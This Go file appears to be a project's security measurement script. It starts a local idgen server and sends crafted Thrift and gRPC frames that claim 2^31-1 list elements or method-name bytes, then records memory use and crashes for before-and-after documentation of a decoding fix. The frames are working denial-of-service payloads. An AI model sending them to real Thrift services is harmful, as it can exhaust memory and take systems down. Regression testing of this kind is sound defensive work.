// Command attackframes measures what the decoding attacks of issue 30 do
// to a real idgen process. It starts the given idgen binary standalone
// (admin token set; with -tls on a TLS port with a throw-away
// certificate) and reads its RSS idle; sends 16 CreateBiz frames whose
// plugins list claims 2^31-1 elements (46 bytes each, one connection
// each) and reads RSS; opens 4 connections that each send a message whose
// method name claims 2^31-1 bytes (2 framed, 2 unframed), holds them for
// 5 s and reads RSS; without -tls, sends the list attack as a gRPC (h2c)
// CreateBiz and reads RSS; and checks that a normal NextIDs is still
// answered.
// For docs/security.md's before and after figures:
//
//	go build -o /tmp/idgen ./cmd/idgen
//	go run ./scripts/attackframes /tmp/idgen        # netpoll
//	go run ./scripts/attackframes -tls /tmp/idgen   # gonet + TLS
//
// The frames are the ones server/codec_test.go sends (hugeListFrame,
// hugeNameMessage). Only for 127.0.0.1.
package main

import (
	"bytes"
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/binary"
	"encoding/pem"
	"errors"
	"flag"
	"fmt"
	"io"
	"math/big"
	"net"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"time"

	"github.com/apache/thrift/lib/go/thrift"
)

func main() {
	useTLS := flag.Bool("tls", false, "serve RPC over TLS (the gonet transport)")
	list := flag.Bool("list", true, "send the list frames (false: only the method-name frames, since on a node without the fix the first list frame can kill it)")
	flag.Parse()
	if flag.NArg() != 1 {
		fmt.Fprintln(os.Stderr, "usage: attackframes [-tls] IDGEN_BINARY")
		os.Exit(2)
	}
	if err := run(flag.Arg(0), *useTLS, *list); err != nil {
		fmt.Fprintln(os.Stderr, "attackframes:", err)
		os.Exit(1)
	}
}

// listFrame: framed CreateBiz(req{name: "x", plugins: list<string> of
// 2^31-1, no element}), 46 bytes.
func listFrame() []byte {
	body := []byte{12, 0, 1, 11, 0, 1, 0, 0, 0, 1, 'x', 15, 0, 13, 11, 0x7f, 0xff, 0xff, 0xff, 0, 0}
	return framed(message("CreateBiz", body))
}

// nameFrame: a 36-byte frame whose message header claims a 2^31-1-byte
// method name (the frame length itself is small).
func nameFrame() []byte {
	b := binary.BigEndian.AppendUint32(nil, 0x80010001)
	b = binary.BigEndian.AppendUint32(b, 0x7fffffff)
	b = append(b, strings.Repeat("NextIDs.", 3)...)
	return framed(b)
}

func message(method string, body []byte) []byte {
	b := binary.BigEndian.AppendUint32(nil, 0x80010001)
	b = binary.BigEndian.AppendUint32(b, uint32(len(method)))
	b = append(b, method...)
	b = binary.BigEndian.AppendUint32(b, 1)
	return append(b, body...)
}

func framed(msg []byte) []byte {
	return append(binary.BigEndian.AppendUint32(nil, uint32(len(msg))), msg...)
}

type node struct {
	cmd        *exec.Cmd
	dir        string // the node's data directory (and the certificate), removed by stop
	rpc, admin string
	tls        *tls.Config // client side; nil for plaintext
	mu         sync.Mutex
	out        strings.Builder
	done       chan struct{}
}

func (n *node) Write(p []byte) (int, error) {
	n.mu.Lock()
	defer n.mu.Unlock()
	return n.out.Write(p)
}

func (n *node) logs() string {
	n.mu.Lock()
	defer n.mu.Unlock()
	return n.out.String()
}

func (n *node) alive() bool {
	select {
	case <-n.done:
		return false
	default:
		return true
	}
}

// died reports whether the node exits within 2 s (a refused connection
// is how a crash shows first).
func (n *node) died() bool {
	select {
	case <-n.done:
		return true
	case <-time.After(2 * time.Second):
		return false
	}
}

func (n *node) rss() string {
	b, err := os.ReadFile(fmt.Sprintf("/proc/%d/status", n.cmd.Process.Pid))
	if err != nil {
		return "gone"
	}
	for l := range strings.Lines(string(b)) {
		if v, ok := strings.CutPrefix(l, "VmRSS:"); ok {
			return strings.TrimSpace(v)
		}
	}
	return "?"
}

func (n *node) dial() (net.Conn, error) {
	if n.tls != nil {
		return tls.DialWithDialer(&net.Dialer{Timeout: 5 * time.Second}, "tcp", n.rpc, n.tls)
	}
	return net.DialTimeout("tcp", n.rpc, 5*time.Second)
}

// nextIDs calls NextIDs once on a fresh framed connection.
func (n *node) nextIDs() error {
	c, err := n.dial()
	if err != nil {
		return err
	}
	cfg := &thrift.TConfiguration{SocketTimeout: 5 * time.Second}
	trans := thrift.NewTFramedTransportConf(thrift.NewTSocketFromConnConf(c, cfg), cfg)
	defer trans.Close()
	p := thrift.NewTBinaryProtocolConf(trans, cfg)
	body := []byte{12, 0, 1, 11, 0, 1, 0, 0, 0, 5, 'a', 't', 't', 'c', 'k', 8, 0, 3, 0, 0, 0, 1, 0, 0}
	if _, err := trans.Write(message("NextIDs", body)); err != nil {
		return err
	}
	if err := trans.Flush(context.Background()); err != nil {
		return err
	}
	_, typ, _, err := p.ReadMessageBegin(context.Background())
	if err != nil {
		return err
	}
	if typ != thrift.REPLY {
		return fmt.Errorf("answered with message type %v", typ)
	}
	return nil
}

func start(bin string, useTLS bool) (*node, error) {
	dir, err := os.MkdirTemp("", "attackframes")
	if err != nil {
		return nil, err
	}
	n := &node{dir: dir, rpc: freeAddr(), admin: freeAddr(), done: make(chan struct{})}
	args := []string{"--rpc-addr", n.rpc, "--admin-addr", n.admin, "--data-dir", dir, "--admin-token", "attackframes-admin-token-0123456789abcdef"}
	if useTLS {
		cert, key, pool, err := selfSigned(dir)
		if err != nil {
			os.RemoveAll(dir)
			return nil, err
		}
		args = append(args, "--tls-cert", cert, "--tls-key", key)
		n.tls = &tls.Config{RootCAs: pool, ServerName: "127.0.0.1"}
	}
	n.cmd = exec.Command(bin, args...)
	n.cmd.Stdout, n.cmd.Stderr = n, n
	if err := n.cmd.Start(); err != nil {
		os.RemoveAll(dir)
		return nil, err
	}
	go func() { _ = n.cmd.Wait(); close(n.done) }()
	deadline := time.Now().Add(60 * time.Second)
	for n.nextIDs() != nil {
		if !n.alive() || time.Now().After(deadline) {
			n.stop()
			return nil, fmt.Errorf("the node did not answer NextIDs: %s", n.logs())
		}
		time.Sleep(100 * time.Millisecond)
	}
	return n, nil
}

func (n *node) stop() {
	_ = n.cmd.Process.Kill()
	<-n.done
	os.RemoveAll(n.dir)
}

func run(bin string, useTLS, list bool) error {
	n, err := start(bin, useTLS)
	if err != nil {
		return err
	}
	defer n.stop()
	transport := "netpoll"
	if useTLS {
		transport = "gonet+tls"
	}
	fmt.Printf("idgen %s, transport %s, admin token set\n", bin, transport)
	time.Sleep(2 * time.Second)
	fmt.Printf("RSS idle: %s\n", n.rss())

	closed, sent := 0, 0
	for i := 0; list && i < 16; i++ {
		c, err := n.dial()
		if err != nil {
			if n.died() {
				break
			}
			return err
		}
		sent++
		_ = c.SetDeadline(time.Now().Add(5 * time.Second))
		if _, err := c.Write(listFrame()); err == nil {
			_, err = io.Copy(io.Discard, c)
			var ne net.Error
			if !errors.As(err, &ne) || !ne.Timeout() {
				closed++
			}
		}
		c.Close()
		if !n.alive() {
			break
		}
	}
	fmt.Printf("after %d list frames (46 bytes each): RSS %s, %d connections closed by the node, node alive: %v\n", sent, n.rss(), closed, n.alive())
	if !n.alive() {
		fmt.Printf("the node died: %s\n", fatal(n.logs()))
		return nil
	}

	var held []net.Conn
	for i := range 4 {
		c, err := n.dial()
		if err != nil {
			if n.died() {
				break
			}
			return err
		}
		f := nameFrame()
		if i%2 == 1 {
			f = f[4:] // unframed (buffered transport)
		}
		_, _ = c.Write(f)
		held = append(held, c)
	}
	time.Sleep(5 * time.Second)
	open := 0
	for _, c := range held {
		_ = c.SetReadDeadline(time.Now().Add(100 * time.Millisecond))
		_, err := io.Copy(io.Discard, c)
		var ne net.Error
		if errors.As(err, &ne) && ne.Timeout() {
			open++
		}
	}
	fmt.Printf("4 connections with a 2^31-1-byte method name (2 framed, 2 unframed), 5 s later: RSS %s, %d of 4 still open, node alive: %v\n", n.rss(), open, n.alive())
	for _, c := range held {
		c.Close()
	}
	if !n.alive() {
		fmt.Printf("the node died: %s\n", fatal(n.logs()))
		return nil
	}
	if !useTLS {
		err := grpcCreateBiz(n.rpc)
		fmt.Printf("the list attack as a gRPC (h2c) CreateBiz: %s; RSS %s, node alive: %v\n", errString(err), n.rss(), !n.died())
		if !n.alive() {
			fmt.Printf("the node died: %s\n", fatal(n.logs()))
			return nil
		}
	}
	fmt.Printf("NextIDs afterwards: %v\n", errString(n.nextIDs()))
	return nil
}

// grpcCreateBiz sends the list attack's CreateBiz arguments as a gRPC
// call with a Thrift payload over HTTP/2 without TLS.
func grpcCreateBiz(addr string) error {
	// HTTP/2 with prior knowledge, as gRPC clients speak it without TLS.
	var h2c http.Protocols
	h2c.SetUnencryptedHTTP2(true)
	tr := &http.Transport{Protocols: &h2c}
	defer tr.CloseIdleConnections()
	args := []byte{12, 0, 1, 11, 0, 1, 0, 0, 0, 1, 'x', 15, 0, 13, 11, 0x7f, 0xff, 0xff, 0xff, 0, 0}
	body := append([]byte{0}, binary.BigEndian.AppendUint32(nil, uint32(len(args)))...)
	body = append(body, args...)
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	req, err := http.NewRequestWithContext(ctx, http.MethodPost, "http://"+addr+"/idgen.IDGenService/CreateBiz", bytes.NewReader(body))
	if err != nil {
		return err
	}
	req.Header.Set("content-type", "application/grpc+thrift")
	req.Header.Set("te", "trailers")
	resp, err := tr.RoundTrip(req)
	if err != nil {
		return err
	}
	defer resp.Body.Close()
	_, _ = io.Copy(io.Discard, resp.Body)
	return fmt.Errorf("answered %s, grpc-status %q", resp.Status, resp.Trailer.Get("grpc-status"))
}

func errString(err error) string {
	if err == nil {
		return "answered"
	}
	return err.Error()
}

// fatal is the Go runtime's "fatal error" line of a crashed node's
// output, or its last line.
func fatal(out string) string {
	l := strings.Split(strings.TrimRight(out, "\n"), "\n")
	for _, line := range l {
		if strings.HasPrefix(line, "fatal error") {
			return line
		}
	}
	return l[len(l)-1]
}

func freeAddr() string {
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		panic(err)
	}
	defer ln.Close()
	return ln.Addr().String()
}

// selfSigned writes a throw-away certificate for 127.0.0.1 (and its key)
// to dir.
func selfSigned(dir string) (cert, key string, pool *x509.CertPool, err error) {
	k, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		return "", "", nil, err
	}
	tmpl := &x509.Certificate{SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: "127.0.0.1"},
		NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(24 * time.Hour),
		IPAddresses: []net.IP{net.IPv4(127, 0, 0, 1)}, KeyUsage: x509.KeyUsageDigitalSignature,
		ExtKeyUsage: []x509.ExtKeyUsage{x509.ExtKeyUsageServerAuth}}
	der, err := x509.CreateCertificate(rand.Reader, tmpl, tmpl, &k.PublicKey, k)
	if err != nil {
		return "", "", nil, err
	}
	kder, err := x509.MarshalECPrivateKey(k)
	if err != nil {
		return "", "", nil, err
	}
	cert, key = filepath.Join(dir, "cert.pem"), filepath.Join(dir, "key.pem")
	if err := os.WriteFile(cert, pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: der}), 0o600); err != nil {
		return "", "", nil, err
	}
	if err := os.WriteFile(key, pem.EncodeToMemory(&pem.Block{Type: "EC PRIVATE KEY", Bytes: kder}), 0o600); err != nil {
		return "", "", nil, err
	}
	c, err := x509.ParseCertificate(der)
	if err != nil {
		return "", "", nil, err
	}
	pool = x509.NewCertPool()
	pool.AddCert(c)
	return cert, key, pool, nil
}
